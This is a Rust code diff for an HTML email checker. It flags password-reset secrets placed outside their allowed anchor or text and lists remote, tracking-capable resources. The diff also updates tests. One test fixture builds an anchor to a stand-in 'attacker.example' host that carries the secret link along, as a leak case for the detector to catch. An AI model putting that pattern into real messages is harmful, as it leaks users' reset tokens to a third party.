@@ -21,10 +21,15 @@ pub enum Place {
 }
 
 impl Place {
-    fn allows_link(&self) -> bool {
+    /// Whether `value` (the text or attribute value holding the link's secret) is a place for the
+    /// link `link`: the text, or an `<a href>` that is the link itself (not another address that
+    /// carries it along).
+    fn allows_link(&self, value: &str, link: &str) -> bool {
         match self {
             Place::Text => true,
-            Place::Attribute { element, attribute } => element == "a" && attribute == "href",
+            Place::Attribute { element, attribute } => {
+                element == "a" && attribute == "href" && value.trim() == link
+            }
             Place::Hidden(_) => false,
         }
     }
@@ -58,7 +63,10 @@ fn walk(html: &str, mut visit: impl FnMut(Place, &str)) {
             continue;
         }
         let tag_end = tag_end(rest);
-        let tag = &rest[1..tag_end.saturating_sub(1).max(1)];
+        // Without its closing `>` (an unclosed tag at the end) the tag runs to the end.
+        let tag = rest[1..tag_end]
+            .strip_suffix('>')
+            .unwrap_or(&rest[1..tag_end]);
         rest = &rest[tag_end..];
         let closing = tag.starts_with('/');
         let (name, attributes) = parse_tag(tag);
@@ -156,11 +164,12 @@ fn parse_tag(tag: &str) -> (String, Vec<(String, &str)>) {
     (name, attributes)
 }
 
-/// The first place where `secret` appears but a link may not, if any.
-pub fn misplaced_link(html: &str, secret: &str) -> Option<Place> {
+/// The first place where `secret` (the bearer part of `link`, both as they appear in the HTML)
+/// appears but the link may not, if any.
+pub fn misplaced_link(html: &str, link: &str, secret: &str) -> Option<Place> {
     let mut found = None;
     walk(html, |place, text| {
-        if found.is_none() && text.contains(secret) && !place.allows_link() {
+        if found.is_none() && text.contains(secret) && !place.allows_link(text, link) {
             found = Some(place);
         }
     });
@@ -189,7 +198,10 @@ pub fn remote_resources(html: &str) -> Vec<String> {
                 .split(',')
                 .filter_map(|c| c.split_whitespace().next())
                 .for_each(&mut keep),
-            "href" if element == "link" => keep(text),
+            "href" if matches!(element.as_str(), "link" | "image" | "use" | "feimage") => {
+                keep(text)
+            }
+            "xlink:href" => keep(text),
             "style" => styles.push(text.to_owned()),
             _ => {}
         },
@@ -197,23 +209,28 @@ pub fn remote_resources(html: &str) -> Vec<String> {
         _ => {}
     });
     for style in styles {
-        let mut rest = style.as_str();
-        while let Some(at) = rest.find("url(") {
-            let after = &rest[at + 4..];
-            let end = after.find(')').unwrap_or(after.len());
-            keep(&after[..end]);
-            rest = &after[end..];
-        }
-        let mut rest = style.as_str();
-        while let Some(at) = rest.find("@import") {
-            let after = rest[at + 7..].trim_start();
-            let end = after.find([';', ' ']).unwrap_or(after.len());
-            keep(
-                after[..end]
-                    .trim_start_matches("url(")
-                    .trim_end_matches(')'),
-            );
-            rest = &after[end..];
+        // CSS keywords are case-insensitive: found in a lower-cased copy (same byte positions),
+        // taken from the original (a URL's path is not).
+        let lower = style.to_ascii_lowercase();
+        for keyword in ["url(", "@import"] {
+            let mut from = 0;
+            while let Some(at) = lower[from..].find(keyword).map(|at| from + at) {
+                let mut start = at + keyword.len();
+                if keyword == "@import" {
+                    start += style[start..].len() - style[start..].trim_start().len();
+                    if lower[start..].starts_with("url(") {
+                        start += 4;
+                    }
+                }
+                let rest = &style[start..];
+                let end = rest
+                    .find(|c: char| {
+                        c == ')' || c == ';' || (keyword == "@import" && c.is_whitespace())
+                    })
+                    .unwrap_or(rest.len());
+                keep(&rest[..end]);
+                from = start + end;
+            }
         }
     }
     found
@@ -224,13 +241,21 @@ mod tests {
     use super::*;
 
     const SECRET: &str = "TICKETabc123";
+    const LINK: &str = "https://t.example/r?ticket=TICKETabc123#x";
 
     #[test]
     fn a_link_in_an_anchor_or_the_text_is_in_its_place() {
         let html = format!(
             r#"<p>Hello</p><a class="btn" href="https://t.example/r?ticket={SECRET}#x">Set password</a><p>Or paste https://t.example/r?ticket={SECRET}</p>"#
         );
-        assert_eq!(misplaced_link(&html, SECRET), None);
+        assert_eq!(
+            misplaced_link(
+                &html,
+                &format!("https://t.example/r?ticket={SECRET}#x"),
+                SECRET
+            ),
+            None
+        );
     }
 
     #[test]
@@ -262,8 +287,14 @@ mod tests {
                 "<link href=…>",
             ),
             (format!(r#"<title>{SECRET}</title>"#), "the <title>"),
+            // An anchor to another address that carries the link along: a click (or a mail
+            // scanner's pre-fetch) gives it away.
+            (
+                format!(r#"<a href="https://attacker.example/?t={LINK}">go</a>"#),
+                "<a href=…>",
+            ),
         ] {
-            let found = misplaced_link(&html, SECRET).map(|p| p.describe());
+            let found = misplaced_link(&html, LINK, SECRET).map(|p| p.describe());
             assert_eq!(found.as_deref(), Some(place), "{html}");
         }
     }
@@ -272,19 +303,35 @@ mod tests {
     fn remote_resources_are_listed_and_embedded_ones_are_not() {
         let html = r#"<img src="https://cdn.example/logo.png"><img src="data:image/png;base64,AAAA"><img src="cid:logo">
 <link rel="stylesheet" href="https://fonts.example/css"><div style="background: url('//track.example/p.gif')"></div>
-<style>@import url(https://x.example/a.css); .b{background:url(https://x.example/b.png)}</style>
+<style>@IMPORT url(https://x.example/A.css); .b{background:URL(https://x.example/b.png)}</style>
+<svg><image href="https://x.example/i.svg"/><use xlink:href="https://x.example/u.svg#a"/></svg>
 <img srcset="https://cdn.example/a.png 1x, https://cdn.example/b.png 2x"><a href="https://app.example">app</a>"#;
         assert_eq!(
             remote_resources(html),
             [
                 "https://cdn.example/logo.png",
                 "https://fonts.example/css",
+                "https://x.example/i.svg",
+                "https://x.example/u.svg#a",
                 "https://cdn.example/a.png",
                 "https://cdn.example/b.png",
                 "//track.example/p.gif",
-                "https://x.example/a.css",
+                "https://x.example/A.css",
                 "https://x.example/b.png",
             ]
         );
+    }
+}
+
+#[cfg(test)]
+mod never_panics {
+    use proptest::prelude::*;
+
+    proptest! {
+        #[test]
+        fn any_text_is_walked_without_a_panic(html in "(<|>|\"|'|=|a|href|src|style|url\\(|@import|<!--|-->|</style|€|ü| |[a-z]){0,60}") {
+            let _ = super::misplaced_link(&html, "https://x/€", "€");
+            let _ = super::remote_resources(&html);
+        }
     }
 }
